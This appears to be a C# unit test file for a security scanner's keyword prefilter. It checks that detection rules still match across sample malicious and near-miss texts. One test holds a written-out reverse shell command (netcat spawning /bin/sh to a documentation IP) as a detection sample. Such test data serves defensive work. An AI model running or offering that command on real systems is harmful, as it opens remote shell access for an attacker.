using ClawSec.Core.Detection;

namespace ClawSec.Core.Tests.Detection;

/// <summary>
/// The prefilter runs a rule only near its keywords: at most the keyword's lead before it, and for a word keyword
/// only where a word starts. Every match of every rule's regex, found here without the prefilter, must hold such a
/// keyword occurrence, or scanning would miss it.
/// </summary>
public sealed class KeywordLeadTests
{
    public static TheoryData<string> RuleNames => [.. RulePack.Default.Rules.Select(r => r.Name)];

    [Theory]
    [MemberData(nameof(RuleNames))]
    public void Every_match_holds_a_keyword_within_its_lead(string name)
    {
        var rule = RulePack.Default.Rules.Single(r => r.Name == name);
        var texts = Texts().ToList();
        var matches = 0;
        foreach (var text in texts)
        {
            foreach (var match in rule.Regex.EnumerateMatches(text))
            {
                matches++;
                Assert.True(HasKeywordWithinLead(rule, text, match.Index, match.Length), $"{name}: no keyword within its lead in «{text.Substring(match.Index, match.Length)}»");
                Assert.True(match.Length <= rule.MaxMatchLength, $"{name}: {match.Length} chars");
            }
        }

        Assert.True(matches >= 3, $"{name}: only {matches} matches in the examples");
    }

    [Fact]
    public void A_word_keyword_inside_a_word_is_no_hit()
    {
        var scanner = new Scanner(RulePack.Default);

        // "async " holds "nc ", "add " holds "dd ": neither starts a command.
        Assert.Empty(scanner.ScanText("an async call to add the item", Direction.Inbound));
        Assert.Contains(scanner.ScanText("x; nc -e /bin/sh 203.0.113.5 4444", Direction.Inbound), f => f.Rule.Name == "reverse_shell");
    }

    private static bool HasKeywordWithinLead(Rule rule, string text, int index, int length)
    {
        var defaultLead = rule.MaxKeywordOffset ?? rule.Reach;
        foreach (var keyword in rule.Keywords)
        {
            var lead = rule.KeywordOffsets?.TryGetValue(keyword, out var own) == true ? Math.Min(own, defaultLead) : defaultLead;
            var word = rule.WordKeywords?.Contains(keyword) == true;
            for (var at = index; at <= Math.Min(index + lead, index + length - keyword.Length); at++)
            {
                if (string.Compare(text, at, keyword, 0, keyword.Length, StringComparison.OrdinalIgnoreCase) == 0
                    && !(word && at > 0 && (char.IsAsciiLetterOrDigit(text[at - 1]) || text[at - 1] == '_')))
                {
                    return true;
                }
            }
        }

        return false;
    }

    internal static IEnumerable<string> Texts() =>
        DefaultRulesTests.TruePositives.Select(row => row.Data.Item2)
            .Concat(SecretRulesTests.TruePositives.Select(row => row.Data.Item2))
            .Concat(InjectionRulesTests.TruePositives.Select(row => row.Data.Item2))
            .Concat(Corpus.MaliciousCorpus.Cases().Select(c => c.Text))
            .Concat(DefaultRulesTests.NearMisses.Select(row => row.Data.Item2))
            .Concat(InjectionRulesTests.NearMisses.Select(row => row.Data.Item2))
            .Concat(SecretRulesTests.NearMisses.Select(row => row.Data.Item2));
}
